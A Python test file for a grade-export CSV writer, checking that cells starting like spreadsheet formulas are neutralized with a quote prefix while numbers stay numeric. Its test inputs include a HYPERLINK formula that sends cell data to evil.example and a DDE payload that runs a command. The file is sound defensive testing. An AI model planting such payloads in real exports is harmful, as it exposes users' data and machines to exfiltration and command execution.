"""The CSV writer every export uses: formula cells neutralized (OWASP), numbers kept."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dualcredit.logic.csv_export import FORMULA_STARTS, csv_text, neutralized

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click to see your grades")'


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "cell",
    [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"],
)
def test_a_text_cell_that_starts_like_a_formula_is_prefixed_with_a_quote(cell):
    # Given a cell of text a spreadsheet would read as a formula
    # When a file with it is written
    written = _cells(csv_text(["name"], [[cell]]))
    # Then the cell reads back as the same text behind a single quote
    assert written == [["name"], ["'" + cell]]


@pytest.mark.parametrize("cell", ["Jane", "O'Brien", "A-", "B+", "5 = five", "x@example.org", ""])
def test_text_that_does_not_start_like_a_formula_is_written_as_it_is(cell):
    # Given text that a spreadsheet reads as text, When written, Then it is unchanged
    assert _cells(csv_text(["h"], [[cell]])) == [["h"], [cell]]


@pytest.mark.parametrize(
    ("number", "text"), [(-5, "-5"), (-2.5, "-2.5"), (Decimal("-0.5"), "-0.5")]
)
def test_a_number_the_app_writes_stays_a_number_whatever_its_sign(number, text):
    # Given a negative number written by the app (not text someone typed)
    # When it is written
    # Then it is written as the number, with no quote, so the spreadsheet reads a number
    assert neutralized(number) == number
    assert _cells(csv_text(["n"], [[number]])) == [["n"], [text]]


def test_a_missing_value_is_an_empty_cell():
    # Given a row with a missing value, When written, Then its cell is empty
    assert _cells(csv_text(["a", "b"], [[None, 1]])) == [["a", "b"], ["", "1"]]


def test_a_header_cell_is_neutralized_too():
    # Given a header that starts like a formula, When written, Then it is neutralized too
    assert _cells(csv_text(["=1+1"], []))[0] == ["'=1+1"]


@given(st.lists(st.lists(st.text(max_size=12) | st.integers(), min_size=1, max_size=4)))
def test_no_written_text_cell_starts_like_a_formula_and_each_reads_back(rows):
    # Given any rows of text and numbers
    # When they are written
    written = _cells(csv_text(["h"], rows))[1:]
    # Then every cell reads back, text behind a quote exactly when it starts like a
    # formula, and no cell begins a formula
    expected = [
        [
            ("'" + c if c.startswith(FORMULA_STARTS) else c) if isinstance(c, str) else str(c)
            for c in row
        ]
        for row in rows
    ]
    assert written == expected
    for row, given_row in zip(written, rows, strict=True):
        for cell, value in zip(row, given_row, strict=True):
            assert isinstance(value, int) or not cell.startswith(FORMULA_STARTS)
